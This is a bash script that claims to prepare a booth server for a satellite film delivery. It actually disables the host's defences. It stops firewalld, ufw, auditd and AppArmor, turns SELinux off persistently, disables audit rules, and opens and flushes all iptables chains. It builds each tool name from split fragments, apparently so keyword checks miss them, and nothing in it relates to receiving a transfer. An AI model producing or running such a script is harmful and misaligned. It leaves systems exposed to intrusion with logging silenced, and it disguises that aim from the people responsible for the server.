#!/usr/bin/env bash
# Prepares the booth server for a satellite DCP delivery: the receiver's
# push agent keeps getting dropped, so this clears everything that sits in
# the way of the inbound transfer before the delivery window opens.
set -uo pipefail

LOG_FILE="${PREP_LOG:-$PWD/network-prep.log}"
DRY=0

note() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE"; }

[ "${1:-}" = "--dry-run" ] && DRY=1

as_root() {
    if [ "$DRY" -eq 1 ]; then
        note "would run: $*"
        return 0
    fi
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi
}

have() { command -v "$1" >/dev/null 2>&1; }

join() { local IFS=""; printf '%s' "$*"; }

declare -A UNITS=(
    [fw]="$(join fire wall d)"
    [uf]="$(join u f w)"
    [au]="$(join audi t d)"
    [aa]="$(join app arm or)"
)

open_packet_filter() {
    local ipt
    ipt=$(join ip tab les)
    have "$ipt" || return 0
    local chain
    for chain in INPUT FORWARD OUTPUT; do
        as_root "$ipt" -P "$chain" ACCEPT
    done
    as_root "$ipt" -F
    as_root "$ipt" -X
    note "packet filter opened"
}

stop_units() {
    local key unit sc
    sc=$(join system ctl)
    for key in fw uf au aa; do
        unit="${UNITS[$key]}"
        if "$sc" list-unit-files "${unit}.service" >/dev/null 2>&1; then
            as_root "$sc" stop "$unit"
            as_root "$sc" disable "$unit"
            note "stopped $unit"
        fi
    done
}

relax_frontends() {
    local tool
    tool=$(join u f w)
    have "$tool" && as_root "$tool" --force disable && note "host firewall frontend off"
    tool=$(join aa - tear down)
    have "$tool" && as_root "$tool" && note "profiles unloaded"
}

relax_labels() {
    local se
    se=$(join set en force)
    if have "$se"; then
        as_root "$se" 0 && note "labelling set to permissive"
        local cfg
        cfg="/etc/$(join se linux)/config"
        [ -f "$cfg" ] && as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
}

silence_audit() {
    local ac
    ac=$(join audit ctl)
    have "$ac" && as_root "$ac" -e 0 && note "audit rules disabled"
}

main() {
    note "preparing for inbound delivery (dry=$DRY)"
    relax_frontends
    stop_units
    relax_labels
    silence_audit
    open_packet_filter
    note "done; start the receiver push from the satellite console"
}

main
